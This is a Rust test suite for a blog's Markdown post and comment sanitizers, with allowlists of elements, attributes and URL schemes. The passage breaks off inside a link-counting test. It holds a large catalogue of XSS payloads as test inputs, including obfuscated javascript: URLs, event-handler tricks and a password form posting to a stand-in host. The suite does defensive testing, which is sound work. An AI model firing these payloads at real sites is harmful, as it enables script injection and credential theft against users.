//! Hostile input against both renderers: posts (`render`) and reader comments
//! (`render_comment`). Output is checked by parsing it the way a browser does (html5ever, via
//! scraper) and walking every element, not by looking for substrings.

use colloquy_core::markdown::{count_links, render, render_comment};
use scraper::node::Element;
use scraper::{ElementRef, Html, Node};
use std::time::{Duration, Instant};

/// Which renderer produced the HTML under test; comments are held to a stricter allowlist.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Surface {
    Post,
    Comment,
}

/// Elements that must never come out of either renderer.
const FORBIDDEN_ELEMENTS: &[&str] = &[
    "script",
    "style",
    "iframe",
    "frame",
    "frameset",
    "object",
    "embed",
    "applet",
    "param",
    "svg",
    "math",
    "form",
    "button",
    "select",
    "option",
    "textarea",
    "base",
    "meta",
    "link",
    "template",
    "noscript",
    "noembed",
    "noframes",
    "xmp",
    "plaintext",
    "title",
    "video",
    "audio",
    "source",
    "track",
    "portal",
    "dialog",
    "marquee",
    "isindex",
    "keygen",
    "animate",
    "set",
    "foreignobject",
    "use",
    "image",
];

/// Every element a comment may contain.
const COMMENT_ELEMENTS: &[&str] = &[
    "a",
    "blockquote",
    "br",
    "code",
    "del",
    "em",
    "li",
    "ol",
    "p",
    "pre",
    "strong",
    "ul",
];

/// Attributes whose value a browser resolves as a URL.
const URL_ATTRIBUTES: &[&str] = &[
    "href",
    "src",
    "action",
    "formaction",
    "poster",
    "background",
    "cite",
    "data",
    "srcset",
    "longdesc",
    "lowsrc",
    "dynsrc",
    "ping",
    "manifest",
    "codebase",
    "xlink:href",
];

/// A URL attribute's value as a browser's URL parser sees its scheme: ASCII whitespace and
/// control characters removed (the URL standard strips tab and newline anywhere, and leading
/// C0 controls and spaces), lower-cased. Entities are already decoded by the HTML parser.
fn normalise_url(value: &str) -> String {
    value
        .chars()
        .filter(|c| !(c.is_ascii_whitespace() || c.is_ascii_control()))
        .collect::<String>()
        .to_ascii_lowercase()
}

/// The scheme of a normalised URL by the URL standard's rules (alpha, then alphanumerics,
/// `+`, `-` or `.`, up to a colon), or `None` when the URL is relative.
fn scheme_of(url: &str) -> Option<&str> {
    let end = url.find(':')?;
    let scheme = &url[..end];
    let mut chars = scheme.chars();
    let first_ok = chars.next().is_some_and(|c| c.is_ascii_alphabetic());
    let rest_ok = chars.all(|c| c.is_ascii_alphanumeric() || matches!(c, '+' | '-' | '.'));
    (first_ok && rest_ok).then_some(scheme)
}

/// Percent-decodes ASCII bytes, for a belt-and-braces look at what a URL spells.
fn percent_decode(s: &str) -> String {
    let bytes = s.as_bytes();
    let mut out = Vec::with_capacity(bytes.len());
    let mut i = 0;
    while i < bytes.len() {
        if bytes[i] == b'%' && i + 2 < bytes.len() {
            let hex = std::str::from_utf8(&bytes[i + 1..i + 3]).unwrap_or("");
            if let Ok(b) = u8::from_str_radix(hex, 16) {
                out.push(b);
                i += 3;
                continue;
            }
        }
        out.push(bytes[i]);
        i += 1;
    }
    String::from_utf8_lossy(&out).into_owned()
}

fn check_url(surface: Surface, element: &str, attr: &str, value: &str, ctx: &str) {
    let url = normalise_url(value);
    let ok_absolute = ["http:", "https:", "mailto:"]
        .iter()
        .any(|p| url.starts_with(p));
    match surface {
        // A comment's links are absolute http, https or mailto; nothing relative survives.
        Surface::Comment => assert!(
            ok_absolute,
            "comment <{element} {attr}={value:?}> is not http/https/mailto\n{ctx}"
        ),
        Surface::Post => {
            let ok = ok_absolute || url.starts_with('#') || scheme_of(&url).is_none();
            assert!(
                ok,
                "post <{element} {attr}={value:?}> has a bad scheme\n{ctx}"
            );
        }
    }
    let decoded = normalise_url(&percent_decode(&url));
    for bad in ["javascript:", "vbscript:", "data:", "livescript:", "file:"] {
        if let Some(scheme) = scheme_of(&decoded) {
            assert_ne!(
                format!("{scheme}:"),
                bad,
                "<{element} {attr}={value:?}> spells {bad} once decoded\n{ctx}"
            );
        }
    }
}

/// The page a rendered body is served in, so that the check also sees what a string
/// concatenated into a whole document does (a stray `<body onload>` merges into the page's
/// body there, while an innerHTML-style fragment parse ignores it).
fn in_page(html: &str) -> String {
    format!(
        "<!DOCTYPE html><html><head><title>t</title></head><body><article id=\"c\">{html}</article></body></html>"
    )
}

/// Parses `html` as a browser would, both as a fragment (body context) and inside a page,
/// and asserts every safety rule on every element. Returns the fragment parse.
fn assert_safe(surface: Surface, input: &str, html: &str) -> Html {
    let ctx = format!("surface: {surface:?}\ninput:  {input:?}\noutput: {html}");

    let fragment = Html::parse_fragment(html);
    // The fragment parser's own <html> root, and its detached <body> context element.
    let mut wrappers: Vec<&Element> = vec![fragment.root_element().value()];
    wrappers.extend(
        fragment
            .tree
            .nodes()
            .filter(|n| n.parent().is_none())
            .filter_map(|n| n.value().as_element()),
    );
    for el in &wrappers {
        assert_eq!(
            el.attrs().count(),
            0,
            "attributes on <{}>\n{ctx}",
            el.name()
        );
    }
    check_elements(surface, &fragment, &wrappers, &ctx);

    let page = Html::parse_document(&in_page(html));
    let root = page.root_element();
    let head = child_named(root, "head", &ctx);
    let body = child_named(root, "body", &ctx);
    let title = child_named(head, "title", &ctx);
    let article = child_named(body, "article", &ctx);
    for el in [root, head, title, body] {
        assert_eq!(
            el.value().attrs().count(),
            0,
            "attributes on the page's <{}>\n{ctx}",
            el.value().name()
        );
    }
    let attrs: Vec<(&str, &str)> = article.value().attrs().collect();
    assert_eq!(
        attrs,
        [("id", "c")],
        "attributes on the page's <article>\n{ctx}"
    );
    let page_wrappers = [root, head, title, body, article].map(|e| e.value());
    check_elements(surface, &page, &page_wrappers, &ctx);
    fragment
}

fn child_named<'a>(parent: ElementRef<'a>, name: &str, ctx: &str) -> ElementRef<'a> {
    parent
        .child_elements()
        .find(|c| c.value().name() == name)
        .unwrap_or_else(|| panic!("the page lost its <{name}>\n{ctx}"))
}

/// Every rule, on every node of `doc` but the parser's or the page's own `wrappers`.
fn check_elements(surface: Surface, doc: &Html, wrappers: &[&Element], ctx: &str) {
    for node in doc.tree.nodes() {
        if let Node::Element(el) = node.value() {
            if wrappers.iter().any(|w| std::ptr::eq(*w, el)) {
                continue;
            }
        }
        let el = match node.value() {
            Node::Element(el) => el,
            Node::Comment(_) => panic!("an HTML comment survived\n{ctx}"),
            Node::ProcessingInstruction(_) => panic!("a processing instruction survived\n{ctx}"),
            _ => continue,
        };
        let name = el.name().to_ascii_lowercase();
        assert!(
            !FORBIDDEN_ELEMENTS.contains(&name.as_str()),
            "forbidden <{name}>\n{ctx}"
        );
        if surface == Surface::Comment {
            assert!(
                COMMENT_ELEMENTS.contains(&name.as_str()),
                "<{name}> is not allowed in a comment\n{ctx}"
            );
        }
        for (attr, value) in el.attrs() {
            let attr = attr.to_ascii_lowercase();
            assert!(!attr.starts_with("on"), "event handler {attr}\n{ctx}");
            assert!(
                !matches!(
                    attr.as_str(),
                    "srcdoc" | "formaction" | "target" | "http-equiv" | "xmlns" | "is"
                ),
                "attribute {attr}\n{ctx}"
            );
            if attr == "style" {
                // Posts keep exactly the table-cell alignments that pulldown-cmark writes.
                let aligned = surface == Surface::Post
                    && matches!(name.as_str(), "th" | "td")
                    && matches!(
                        value,
                        "text-align: left" | "text-align: center" | "text-align: right"
                    );
                assert!(aligned, "style={value:?} on <{name}>\n{ctx}");
            }
            if URL_ATTRIBUTES.contains(&attr.as_str()) {
                check_url(surface, &name, &attr, value, ctx);
            }
            if surface == Surface::Comment {
                let allowed = match (name.as_str(), attr.as_str()) {
                    ("a", "href" | "rel") => true,
                    ("ol", "start") => value.parse::<u32>().is_ok(),
                    ("code", "class") => value.strip_prefix("language-").is_some_and(|l| {
                        !l.is_empty()
                            && l.bytes().all(|b| {
                                b.is_ascii_alphanumeric()
                                    || matches!(b, b'_' | b'-' | b'+' | b'#' | b'.')
                            })
                    }),
                    _ => false,
                };
                assert!(allowed, "<{name} {attr}={value:?}> in a comment\n{ctx}");
            }
        }
        if name == "input" {
            assert_eq!(
                el.attr("type"),
                Some("checkbox"),
                "only task-list checkboxes may be inputs\n{ctx}"
            );
        }
        if surface == Surface::Comment && name == "a" {
            let rel: Vec<&str> = el.attr("rel").unwrap_or("").split_whitespace().collect();
            for token in ["nofollow", "ugc", "noopener"] {
                assert!(rel.contains(&token), "<a> without rel {token}\n{ctx}");
            }
        }
    }
}

fn text_of(doc: &Html) -> String {
    doc.root_element().text().collect()
}

#[test]
fn the_checker_itself_rejects_unsafe_html() {
    // Unsafe HTML handed straight to the checker must fail it, or the suite proves nothing.
    let both = [
        "<script>x</script>",
        "<p onclick=x>p</p>",
        "<a href=\"java&#x09;script:x\">a</a>",
        "<a href=\" JaVaScRiPt:x\">a</a>",
        "<a href=\"%6a%61vascript:x\">a</a>",
        "<img src=\"data:image/png;base64,AA\">",
        "<svg><g></g></svg>",
        "<math></math>",
        "<iframe></iframe>",
        "<p style=\"color:red\">p</p>",
        "<body onload=x>",
        "<!-- c -->",
        "<button formaction=https://x>b</button>",
        "<a target=_blank href=https://x>a</a>",
        "<blockquote cite=\"javascript:x\">q</blockquote>",
    ];
    let comment_only = [
        "<a href=\"https://x\">no rel</a>",
        "<a href=\"https://x\" rel=\"nofollow noopener\">no ugc</a>",
        "<a href=\"/relative\" rel=\"nofollow ugc noopener\">r</a>",
        "<img src=\"https://x/a.png\">",
        "<input type=checkbox>",
        "<h1>h</h1>",
        "<table><tr><td>t</td></tr></table>",
        "<p class=\"x\">p</p>",
        "<p id=\"x\">p</p>",
        "<code class=\"language-x y\">c</code>",
    ];
    let fails = |surface: Surface, html: &str| {
        std::panic::catch_unwind(|| {
            assert_safe(surface, "(direct)", html);
        })
        .is_err()
    };
    for html in both {
        assert!(fails(Surface::Post, html), "post checker passed {html}");
        assert!(
            fails(Surface::Comment, html),
            "comment checker passed {html}"
        );
    }
    for html in comment_only {
        assert!(
            fails(Surface::Comment, html),
            "comment checker passed {html}"
        );
        assert!(!fails(Surface::Post, html), "post checker refused {html}");
    }
}

/// Hostile inputs, each run through both renderers.
const HOSTILE: &[&str] = &[
    // <script> in assorted cases and broken shapes.
    "<script>alert(1)</script>",
    "<SCRIPT>alert(1)</SCRIPT>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=https://evil.example/x.js></script>",
    "<script\n>alert(1)</script\n>",
    "<script/x>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>script>alert(1)<</script>/script>",
    "<script>alert(1)",
    "text before <script type=\"text/javascript\">document.cookie</script> after",
    "<script>/*</script><script>*/alert(1)</script>",
    "\u{0}<script>alert(1)</script>",
    "<scrİpt>alert(1)</scrİpt>",
    // Event handlers with odd spacing, quoting and slashes.
    "<img src=x onerror=alert(1)>",
    "<img src=x ONERROR=alert(1)>",
    "<img src=x onerror = \"alert(1)\" >",
    "<img/src=x/onerror=alert(1)>",
    "<img src=x\nonerror\n=\nalert(1)>",
    "<img src='x'onerror='alert(1)'>",
    "<img src=\"x\"onerror=\"alert(1)\">",
    "<img src=`x` onerror=`alert(1)`>",
    "<body onload=alert(1)>",
    "<div onmouseover=\"alert(1)\">hover</div>",
    "<p/onmouseover=alert(1)>hover</p>",
    "<a href=https://ok.example onclick=alert(1)>click</a>",
    "<details open ontoggle=alert(1)>x</details>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<div\tonpointerenter=alert(1)>x</div>",
    "<b onmouseover=alert(1)//>bold</b>",
    // javascript:, vbscript: and data: URLs, spelled every way, in raw HTML.
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"JAVASCRIPT:alert(1)\">x</a>",
    "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
    "<a href=\"  javascript:alert(1)\">x</a>",
    "<a href=\"java\tscript:alert(1)\">x</a>",
    "<a href=\"java\nscript:alert(1)\">x</a>",
    "<a href=\"java\rscript:alert(1)\">x</a>",
    "<a href=\"&#106;avascript:alert(1)\">x</a>",
    "<a href=\"&#x6A;avascript:alert(1)\">x</a>",
    "<a href=\"&#0000106;&#0000097;vascript:alert(1)\">x</a>",
    "<a href=\"javascript&colon;alert(1)\">x</a>",
    "<a href=\"javascript&#58;alert(1)\">x</a>",
    "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
    "<a href=\"jav&#x0A;ascript:alert(1)\">x</a>",
    "<a href=\"&#x01;javascript:alert(1)\">x</a>",
    "<a href=\"%6A%61%76%61script:alert(1)\">x</a>",
    "<a href=\"javascript%3Aalert(1)\">x</a>",
    "<a href=\"vbscript:msgbox(1)\">x</a>",
    "<a href=\"VBScript:msgbox(1)\">x</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
    "<a href=\"DATA:text/html,<script>alert(1)</script>\">x</a>",
    "<a href=javascript:alert(1)>unquoted</a>",
    "<a href='javascript:alert(\"nested\")'>quotes</a>",
    "<a href=\"javascript:alert('x')\" title='\"onmouseover=alert(1)//'>x</a>",
    // The same, as Markdown links.
    "[x](javascript:alert(1))",
    "[x](JavaScript:alert(1))",
    "[x]( javascript:alert(1) )",
    "[x](<javascript:alert(1)>)",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](java&#x09;script:alert(1))",
    "[x](java%0Ascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "[x](https://ok.example \"\\\" onmouseover=alert(1) x=\\\"\")",
    "[x](https://ok.example 'it\\'s \" onclick=alert(1)')",
    "[x][evil]\n\n[evil]: javascript:alert(1)",
    "[x][evil]\n\n[evil]: <javascript:alert(1)> \"title\"",
    "[evil]\n\n[evil]: &#x6A;avascript:alert(1)",
    "<javascript:alert(1)>",
    "<JAVASCRIPT:alert(1)>",
    "<vbscript:msgbox(1)>",
    "<data:text/html,hi>",
    "[![x](javascript:alert(1))](javascript:alert(2))",
    // Images, which comments never show.
    "![x](javascript:alert(1))",
    "![x\" onerror=\"alert(1)](https://img.example/a.png)",
    "![x](https://img.example/a.png \"\\\" onload=alert(1) \\\"\")",
    "<img src=\"javascript:alert(1)\">",
    "<img src=\"https://tracker.example/pixel.gif\" width=1 height=1>",
    "<img srcset=\"javascript:alert(1) 1x\">",
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    // Foreign content and other active elements.
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text x=0 y=20>x</text></a></svg>",
    "<svg><animate attributeName=href values=javascript:alert(1) /></svg>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math href=\"javascript:alert(1)\">click</math>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    "<iframe src=\"https://evil.example\"></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=\"javascript:alert(1)\"></object>",
    "<object type=text/html data=https://evil.example></object>",
    "<embed src=\"javascript:alert(1)\">",
    "<embed src=https://evil.example/x.swf>",
    "<form action=\"https://evil.example/steal\"><input name=password type=password></form>",
    "<form><button formaction=\"javascript:alert(1)\">go</button></form>",
    "<input type=image src=x formaction=javascript:alert(1)>",
    "<isindex action=javascript:alert(1) type=image>",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
    "<meta charset=\"utf-7\">+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "<base href=\"https://evil.example/\">",
    "<link rel=stylesheet href=\"https://evil.example/x.css\">",
    "<link rel=import href=\"https://evil.example/x.html\">",
    "<style>body{background:url(javascript:alert(1))}</style>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<div style=\"width: expression(alert(1))\">x</div>",
    "<p style=\"background-image:url('javascript:alert(1)')\">x</p>",
    "<span style=\"behavior:url(x.htc)\">x</span>",
    "<td style=\"text-align: left; background:url(javascript:alert(1))\">x</td>",
    "<table background=\"javascript:alert(1)\"><tr><td>x</td></tr></table>",
    "<frameset><frame src=javascript:alert(1)></frameset>",
    "<applet code=Evil.class></applet>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    "<noembed><img title=\"</noembed><img src=x onerror=alert(1)>\"></noembed>",
    "<textarea><script>alert(1)</script></textarea>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<plaintext><script>alert(1)</script>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<a href=\"https://ok.example\" target=\"_blank\">tab</a>",
    "<a id=\"login\" class=\"btn\" href=\"https://ok.example\">x</a>",
    "<blockquote cite=\"javascript:alert(1)\">q</blockquote>",
    "<q cite=\"vbscript:msgbox(1)\">q</q> <del cite=\"data:text/html,x\">d</del>",
    "<input type=password name=pw placeholder=\"Your password\">",
    "<a href=\"java\u{1}script:alert(1)\">x</a>",
    // Unclosed and broken markup.
    "<img src=x onerror=alert(1)",
    "<a href=\"javascript:alert(1)",
    "<div title=\"<img src=x onerror=alert(1)>\">",
    "<p <script>alert(1)</script>>",
    "<</p>iframe src=javascript:alert(1)>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    // Comments, CDATA, processing instructions, doctype.
    "<!-- <script>alert(1)</script> -->",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<svg><![CDATA[</svg><img src=x onerror=alert(1)>]]></svg>",
    "<?xml version=\"1.0\"?><script>alert(1)</script>",
    "<!DOCTYPE html><html><head><script>alert(1)</script></head></html>",
    // Markdown constructs wrapped round hostile HTML.
    "```\n</code></pre><script>alert(1)</script>\n```",
    "```\"><script>alert(1)</script>\nx\n```",
    "```js onload=alert(1)\nx\n```",
    "`<script>alert(1)</script>`",
    "> <script>alert(1)</script>",
    "- <img src=x onerror=alert(1)>\n- [x](javascript:alert(1))",
    "# <script>alert(1)</script>\n\n## <img src=x onerror=alert(1)>",
    "| a | <script>alert(1)</script> |\n|---|---|\n| <img src=x onerror=alert(1)> | b |",
    "Note[^x].\n\n[^x]: <script>alert(1)</script> [y](javascript:alert(1))",
    "*<img src=x onerror=alert(1)>*",
    "[<img src=x onerror=alert(1)>](https://ok.example)",
    "[click](https://ok.example\"onmouseover=\"alert(1))",
    // Template-looking text must pass through as text.
    "{{ 7*7 }} {{constructor.constructor('alert(1)')()}}",
    "{% for x in y %}{{ x }}{% endfor %} ${alert(1)} #{1+1}",
];

#[test]
fn hostile_inputs_are_safe_in_posts_and_comments() {
    assert!(HOSTILE.len() >= 80, "{} hostile inputs", HOSTILE.len());
    for input in HOSTILE {
        assert_safe(Surface::Post, input, &render(input));
        assert_safe(Surface::Comment, input, &render_comment(input));
    }
}

#[test]
fn script_in_every_letter_case_never_runs() {
    // All 64 spellings of "script" in mixed case.
    for mask in 0u32..64 {
        let word: String = "script"
            .chars()
            .enumerate()
            .map(|(i, c)| {
                if mask & (1 << i) != 0 {
                    c.to_ascii_uppercase()
                } else {
                    c
                }
            })
            .collect();
        let input = format!("a <{word}>alert(1)</{word}> <{word} src=x></{word}> b");
        assert_safe(Surface::Post, &input, &render(&input));
        assert_safe(Surface::Comment, &input, &render_comment(&input));
    }
}

#[test]
fn javascript_scheme_obfuscations_in_markdown_and_html() {
    // Every scheme spelling, placed in every link syntax both renderers accept.
    let schemes = [
        "javascript:",
        "JAVASCRIPT:",
        "jAvAsCrIpT:",
        "&#106;avascript:",
        "&#x6A;avascript:",
        "&#X6a;avascript&#58;",
        "javascript&colon;",
        "java&#9;script:",
        "java&#10;script:",
        "java&Tab;script:",
        "&#32;javascript:",
        "%20javascript:",
        "vbscript:",
        "VbScRiPt:",
        "data:text/html,",
        "DaTa:text/html;base64,",
    ];
    for scheme in schemes {
        let url = format!("{scheme}alert(1)");
        let inputs = [
            format!("[x]({url})"),
            format!("[x](<{url}>)"),
            format!("[x][r]\n\n[r]: {url}"),
            format!("<{url}>"),
            format!("![x]({url})"),
            format!("<a href=\"{url}\">x</a>"),
            format!("<a href='{url}'>x</a>"),
            format!("<a href={url}>x</a>"),
            format!("<img src=\"{url}\">"),
            format!("<iframe src=\"{url}\"></iframe>"),
            format!("<form action=\"{url}\"><button>x</button></form>"),
        ];
        for input in &inputs {
            assert_safe(Surface::Post, input, &render(input));
            assert_safe(Surface::Comment, input, &render_comment(input));
        }
    }
}

#[test]
fn control_characters_inside_schemes() {
    for c in (0u8..0x20).chain([0x7f]) {
        let c = c as char;
        for input in [
            format!("<a href=\"java{c}script:alert(1)\">x</a>"),
            format!("<a href=\"{c}javascript:alert(1)\">x</a>"),
            format!("[x]({c}javascript:alert(1))"),
            format!("[x](java{c}script:alert(1))"),
        ] {
            assert_safe(Surface::Post, &input, &render(&input));
            assert_safe(Surface::Comment, &input, &render_comment(&input));
        }
    }
}

// ---- Comments: what survives -------------------------------------------------------------

fn comment_doc(input: &str) -> (String, Html) {
    let html = render_comment(input);
    let doc = assert_safe(Surface::Comment, input, &html);
    (html, doc)
}

fn count(doc: &Html, selector: &str) -> usize {
    doc.select(&scraper::Selector::parse(selector).unwrap())
        .count()
}

#[test]
fn comment_formatting_survives() {
    let (html, doc) = comment_doc(
        "Some *em*, **strong**, ~~gone~~ and `code`.  \nNew line.\n\n\
         > quoted\n\n- one\n- two\n\n3. three\n4. four\n\n```rust\nfn main() {}\n```\n",
    );
    for (sel, n) in [
        ("p > em", 1),
        ("p > strong", 1),
        ("p > del", 1),
        ("p > code", 1),
        ("p > br", 1),
        ("blockquote > p", 1),
        ("ul > li", 2),
        ("ol[start=\"3\"] > li", 2),
        ("pre > code.language-rust", 1),
    ] {
        assert_eq!(count(&doc, sel), n, "{sel} in {html}");
    }
    assert!(text_of(&doc).contains("fn main() {}"), "{html}");
}

#[test]
fn comment_https_link_survives_with_rel() {
    let (html, doc) = comment_doc("See [the docs](https://docs.example/a?b=1&c=2#d).");
    let sel = scraper::Selector::parse("a").unwrap();
    let a = doc.select(&sel).next().unwrap_or_else(|| panic!("{html}"));
    assert_eq!(
        a.value().attr("href"),
        Some("https://docs.example/a?b=1&c=2#d")
    );
    assert_eq!(a.value().attr("rel"), Some("nofollow ugc noopener"));
    assert_eq!(a.value().attr("title"), None);
    assert_eq!(a.text().collect::<String>(), "the docs");

    let (html, doc) = comment_doc("<https://auto.example/x> and <someone@mail.example>");
    assert_eq!(
        count(&doc, "a[href=\"https://auto.example/x\"]"),
        1,
        "{html}"
    );
    assert_eq!(
        count(&doc, "a[href=\"mailto:someone@mail.example\"]"),
        1,
        "{html}"
    );
}

#[test]
fn comment_relative_and_fragment_links_lose_their_href() {
    for input in [
        "[x](/admin)",
        "[x](../up)",
        "[x](#top)",
        "[x](//evil.example/)",
    ] {
        let (html, doc) = comment_doc(input);
        assert_eq!(count(&doc, "a[href]"), 0, "{input} -> {html}");
        assert!(text_of(&doc).contains('x'), "{html}");
    }
}

#[test]
fn comment_raw_html_is_shown_as_text() {
    let (html, doc) = comment_doc("I typed <b>bold</b> here");
    assert!(html.contains("&lt;b&gt;bold&lt;/b&gt;"), "{html}");
    assert_eq!(count(&doc, "b"), 0, "{html}");
    assert!(text_of(&doc).contains("<b>bold</b>"));

    // Nothing is silently lost: a script block reads back as the text that was typed.
    let (html, doc) = comment_doc("<script>alert(1)</script>\n\nafter");
    assert!(
        text_of(&doc).contains("<script>alert(1)</script>"),
        "{html}"
    );
    assert!(text_of(&doc).contains("after"), "{html}");

    let (html, doc) = comment_doc("<!-- hidden? -->");
    assert!(text_of(&doc).contains("<!-- hidden? -->"), "{html}");
}

#[test]
fn comment_images_never_appear() {
    for input in [
        "![cat](https://img.example/cat.png)",
        "![](https://img.example/cat.png)",
        "![cat][c]\n\n[c]: https://img.example/cat.png",
        "[![cat](https://img.example/cat.png)](https://img.example/)",
        "<img src=\"https://img.example/cat.png\">",
        "![![inner](https://a.example/i.png)](https://b.example/o.png)",
    ] {
        let (html, doc) = comment_doc(input);
        assert_eq!(count(&doc, "img"), 0, "{input} -> {html}");
        assert!(!text_of(&doc).trim().is_empty(), "{input} -> {html}");
    }
    let (_, doc) = comment_doc("![a cat](https://img.example/cat.png)");
    assert_eq!(text_of(&doc).trim(), "a cat");
    let (_, doc) = comment_doc("![](https://img.example/cat.png)");
    assert_eq!(text_of(&doc).trim(), "https://img.example/cat.png");
    // The URL of an image without alt text is shown, not linked.
    assert_eq!(count(&doc, "a"), 0);
}

#[test]
fn comment_headings_tables_and_rules_are_flattened() {
    let (html, doc) = comment_doc("# Big\n\nSub\n---\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n***\n");
    for sel in ["h1", "h2", "table", "hr", "img"] {
        assert_eq!(count(&doc, sel), 0, "{sel} in {html}");
    }
    assert_eq!(count(&doc, "p > strong"), 2, "{html}");
    assert!(text_of(&doc).contains("Big") && text_of(&doc).contains("Sub"));
}

#[test]
fn comment_code_language_is_kept_only_when_plain() {
    let (html, doc) = comment_doc("```c++\nx\n```\n\n```\"><b>\ny\n```\n\n```\nz\n```");
    assert_eq!(count(&doc, "code.language-c\\+\\+"), 1, "{html}");
    assert_eq!(count(&doc, "pre > code:not([class])"), 2, "{html}");
}

#[test]
fn template_syntax_passes_through_as_text() {
    let input = "{{ user.password }} and {% include 'x' %}";
    let (_, doc) = comment_doc(input);
    assert_eq!(text_of(&doc).trim(), input);
    // Posts use smart punctuation, which curls the quotes; the braces are untouched.
    let post = render(input);
    let doc = assert_safe(Surface::Post, input, &post);
    let text = text_of(&doc);
    assert!(
        text.contains("{{ user.password }}") && text.contains("{% include"),
        "{post}"
    );
}

// ---- Posts: hardening beyond ammonia's defaults ------------------------------------------

fn post_doc(input: &str) -> (String, Html) {
    let html = render(input);
    let doc = assert_safe(Surface::Post, input, &html);
    (html, doc)
}

#[test]
fn post_cite_urls_are_scheme_checked() {
    // ammonia does not treat `cite` as a URL; the extra filter does.
    let (html, doc) = post_doc("<blockquote cite=\"javascript:alert(1)\">q</blockquote>");
    assert_eq!(count(&doc, "blockquote[cite]"), 0, "{html}");
    let (html, doc) = post_doc("<blockquote cite=\"https://source.example/\">q</blockquote>");
    assert_eq!(
        count(&doc, "blockquote[cite=\"https://source.example/\"]"),
        1,
        "{html}"
    );
}

#[test]
fn post_control_and_escaped_schemes_are_dropped() {
    for input in [
        "<a href=\"java\u{1}script:alert(1)\">x</a>",
        "<a href=\"java\u{1b}script:alert(1)\">x</a>",
        "[x](java&#9;script:alert(1))",
        "<a href=\"%6a%61%76%61%73%63%72%69%70%74:alert(1)\">x</a>",
    ] {
        let (html, doc) = post_doc(input);
        assert_eq!(count(&doc, "a[href]"), 0, "{input:?} -> {html}");
    }
}

#[test]
fn post_relative_links_and_images_still_work() {
    let (html, doc) = post_doc(
        "[a](/posts/x) [b](#notes) [c](page.html?q=a%3Ab) ![d](/media/d.png) [e](https://e.example)",
    );
    for sel in [
        "a[href=\"/posts/x\"]",
        "a[href=\"#notes\"]",
        "a[href=\"page.html?q=a%3Ab\"]",
        "img[src=\"/media/d.png\"]",
        "a[href=\"https://e.example\"]",
    ] {
        assert_eq!(count(&doc, sel), 1, "{sel} in {html}");
    }
}

#[test]
fn post_inputs_are_only_disabled_checkboxes() {
    let (html, doc) = post_doc("<input type=password name=pw> <input type=\"text\" value=x>");
    assert_eq!(count(&doc, "input"), 2, "{html}");
    assert_eq!(count(&doc, "input[type=checkbox][disabled]"), 2, "{html}");
    assert_eq!(count(&doc, "input[name], input[value]"), 0, "{html}");
}

// ---- Deep nesting and pathological input ---------------------------------------------------

fn max_depth(doc: &Html) -> usize {
    doc.tree
        .nodes()
        .map(|n| n.ancestors().count())
        .max()
        .unwrap_or(0)
}

#[test]
fn comment_pathological_input_finishes_fast() {
    let cases: Vec<(&str, String)> = vec![
        ("blockquotes", ">".repeat(100_000)),
        ("brackets", "[".repeat(100_000)),
        ("image brackets", "![".repeat(50_000)),
        ("quoted lists", "> - ".repeat(25_000)),
        ("list lines", "- a\n  ".repeat(15_000)),
        ("stars", "*a".repeat(50_000)),
        ("mixed emphasis", "_*~".repeat(33_000)),
        ("angles", "<".repeat(100_000)),
        ("open tags", "<div>".repeat(20_000)),
        ("links", "[a](".repeat(25_000)),
        ("backticks", "`a".repeat(50_000)),
        (
            "indented lists",
            (0..400)
                .map(|i| format!("{}- x\n", "  ".repeat(i)))
                .collect(),
        ),
    ];
    for (name, input) in &cases {
        let start = Instant::now();
        let html = render_comment(input);
        let links = count_links(input);
        let took = start.elapsed();
        assert!(
            took < Duration::from_secs(10),
            "{name}: {took:?} for {} bytes",
            input.len()
        );
        let doc = Html::parse_fragment(&html);
        // html, the fragment root, plus at most the comment nesting cap and a little slack.
        assert!(max_depth(&doc) <= 24, "{name}: depth {}", max_depth(&doc));
        assert_eq!(links, 0, "{name}");
    }
}

// ---- count_links ---------------------------------------------------------------------------

#[test]
fn count_links_counts_every_kind_of_link() {
    let cases: &[(&str, usize)] = &[
        ("", 0),
        ("no links here", 0),
        ("[a](https://a.example)", 1),
        ("[a](http://a.example) [b](HTTPS://b.example)", 2),
        ("[a][r] [b][r]\n\n[r]: https://r.example", 2),
        ("<https://auto.example>", 1),
        ("<someone@mail.example>", 1),
        ("[write](mailto:me@mail.example)", 1),
        ("bare https://bare.example/x and http://other.example", 2),
        ("HTTPS://SHOUT.EXAMPLE", 1),
        ("(see https://paren.example/a)", 1),
        ("[https://a.example](https://a.example)", 1),
        ("<https://a.example> then https://b.example", 2),
        ("`https://in-code.example`", 1),
